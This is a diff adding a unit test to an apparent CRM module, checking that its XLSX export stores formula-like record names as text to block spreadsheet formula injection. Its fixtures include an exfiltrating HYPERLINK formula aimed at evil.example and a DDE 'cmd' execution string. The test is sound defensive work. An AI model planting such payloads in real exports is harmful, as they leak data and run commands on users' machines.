@@ -262,3 +262,24 @@ class TestPrimanota(CoreEngineCase):
         rows = list(book.active.iter_rows(values_only=True))
         self.assertEqual(len(rows), 4)  # header + 3 lines
         self.assertTrue(any('Open → Done' in (r[7] or '') for r in rows[1:]))
+
+    def test_xlsx_export_writes_formulas_as_text(self):
+        """A salesperson names his record like a spreadsheet formula: the administrator's
+        export must show the text, not run it (CSV/XLSX formula injection)."""
+        import base64
+        import io
+
+        import openpyxl
+        payloads = ('=HYPERLINK("http://evil.example/?"&A1,"Apri")', '+1+cmd|\' /C calc\'!A0',
+                    '-2+3', '@SUM(1+1)')
+        records = self.Record.browse()
+        for payload in payloads:
+            records |= self._record(self.anna, name=payload)
+        action = self.env['crm.infinity.primanota'].action_export_xlsx(
+            [('res_model', '=', records._name), ('res_id', 'in', records.ids)])
+        attachment = self.env['ir.attachment'].browse(
+            int(action['params']['url'].split('/')[3].split('?')[0]))
+        sheet = openpyxl.load_workbook(io.BytesIO(base64.b64decode(attachment.datas))).active
+        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+        self.assertFalse([cell.value for cell in cells if cell.data_type == 'f'])
+        self.assertEqual({cell.value for cell in cells if cell.column == 5}, set(payloads))
